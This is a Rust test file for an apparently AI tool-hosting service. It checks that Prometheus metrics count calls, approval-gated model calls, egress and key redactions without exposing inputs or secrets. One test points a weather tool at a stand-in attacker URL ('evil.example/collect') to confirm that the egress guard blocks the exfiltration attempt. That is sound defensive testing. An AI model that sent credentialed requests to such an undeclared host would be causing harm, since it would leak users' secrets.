//! The host's metrics: what calls, decisions and egress add, read back from
//! the Prometheus text the host renders, and what never becomes a label.

use std::sync::Arc;

use serde_json::json;
use warden_egress::testing::TestCa;
use warden_host::{Invocation, InvokeOutcome, Metrics, Origin};

use crate::first_party::{KEY, Weather, builder, current, installed, provider};

/// The value of the series `name` whose labels include every one of
/// `labels`, or `None` when the text has no such series.
fn series(text: &str, name: &str, labels: &[(&str, &str)]) -> Option<f64> {
    text.lines()
        .filter(|l| !l.starts_with('#'))
        .find_map(|line| {
            let (head, value) = line.rsplit_once(' ')?;
            let (metric, set) = match head.split_once('{') {
                Some((metric, rest)) => (metric, rest.strip_suffix('}')?),
                None => (head, ""),
            };
            let found = metric == name
                && labels
                    .iter()
                    .all(|(k, v)| set.split(',').any(|pair| pair == format!("{k}=\"{v}\"")));
            found.then(|| value.parse().ok()).flatten()
        })
}

#[tokio::test(flavor = "multi_thread")]
async fn calls_decisions_and_egress_are_counted_without_their_input() {
    let ca = TestCa::new();
    let server = provider(&ca).await;
    let weather = Weather::new("https://api.weather.example/v1/current");
    let host = builder(&ca, &server, weather)
        .metrics(Arc::new(Metrics::new()))
        .build()
        .unwrap();
    let location = installed(&host);

    for city in ["Paris", "Lyon"] {
        let outcome = location.invoke(current(json!(city))).await.unwrap();
        assert!(
            matches!(outcome, InvokeOutcome::Completed(_)),
            "{outcome:?}"
        );
    }
    let refused_input = location.invoke(current(json!(42))).await.unwrap();
    assert!(matches!(refused_input, InvokeOutcome::Failed(_)));
    // From the model the tool is gated: the call waits for a person.
    let from_model = Invocation::new(
        "weather_current",
        json!({ "city": "Nice" }),
        Origin::LoopRun,
    );
    let waiting = location.invoke(from_model).await.unwrap();
    assert!(matches!(waiting, InvokeOutcome::NeedsApproval(_)));
    // A name nobody published is the model's words: never a label.
    let unknown = Invocation::new("made_up_tool_xyzzy", json!({}), Origin::LoopRun);
    location.invoke(unknown).await.unwrap();

    let text = host.render_metrics().await.expect("metrics are on");
    let call = |outcome: &str| {
        series(
            &text,
            "warden_calls_total",
            &[
                ("capability", "weather.current"),
                ("lane", "first_party"),
                ("outcome", outcome),
            ],
        )
    };
    assert_eq!(call("ok"), Some(2.0), "{text}");
    assert_eq!(call("invalid_input"), Some(1.0), "{text}");
    assert_eq!(call("approval_required"), Some(1.0), "{text}");
    let unknown = [
        ("capability", ""),
        ("lane", "none"),
        ("outcome", "unknown_tool"),
    ];
    assert_eq!(series(&text, "warden_calls_total", &unknown), Some(1.0));
    assert_eq!(
        series(
            &text,
            "warden_authorizations_total",
            &[("decision", "allow"), ("rule", "consent_sufficient")]
        ),
        Some(2.0),
        "{text}"
    );
    assert_eq!(
        series(
            &text,
            "warden_authorizations_total",
            &[("decision", "needs_approval"), ("rule", "gated_no_grant")]
        ),
        Some(1.0),
        "{text}"
    );
    assert_eq!(
        series(&text, "warden_approvals_pending", &[("location", "p")]),
        Some(1.0),
        "{text}"
    );
    let run_time = [("capability", "weather.current"), ("lane", "first_party")];
    assert_eq!(
        series(&text, "warden_call_duration_seconds_count", &run_time),
        Some(2.0),
        "{text}"
    );
    let weather_api = [("target", "api.weather.example"), ("status", "2xx")];
    assert_eq!(
        series(&text, "warden_egress_requests_total", &weather_api),
        Some(2.0),
        "{text}"
    );
    let received = series(
        &text,
        "warden_egress_received_bytes_total",
        &[("target", "api.weather.example")],
    );
    assert!(received.is_some_and(|bytes| bytes > 0.0), "{text}");
    // The provider reflects the key it was sent: each answer was redacted.
    assert_eq!(series(&text, "warden_redactions_total", &[]), Some(2.0));
    for never in ["Paris", "Lyon", "Nice", "xyzzy", KEY] {
        assert!(
            !text.contains(never),
            "`{never}` is in the metrics:\n{text}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_request_is_counted_by_the_rule_that_refused_it() {
    let ca = TestCa::new();
    let server = provider(&ca).await;
    // The service sends the key's request somewhere the tool never declared.
    let weather = Weather::new("https://evil.example/collect");
    let host = builder(&ca, &server, weather)
        .metrics(Arc::new(Metrics::new()))
        .build()
        .unwrap();
    let location = installed(&host);
    location.invoke(current(json!("Paris"))).await.unwrap();

    let text = host.render_metrics().await.unwrap();
    assert_eq!(
        series(
            &text,
            "warden_egress_denied_total",
            &[("rule", "host_not_allowed")]
        ),
        Some(1.0),
        "{text}"
    );
    assert!(!text.contains("evil.example"), "{text}");
    assert!(server.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_built_without_metrics_renders_none() {
    let ca = TestCa::new();
    let server = provider(&ca).await;
    let weather = Weather::new("https://api.weather.example/v1/current");
    let host = builder(&ca, &server, weather).build().unwrap();
    installed(&host)
        .invoke(current(json!("Paris")))
        .await
        .unwrap();
    assert!(host.metrics().is_none());
    assert!(host.render_metrics().await.is_none());
}
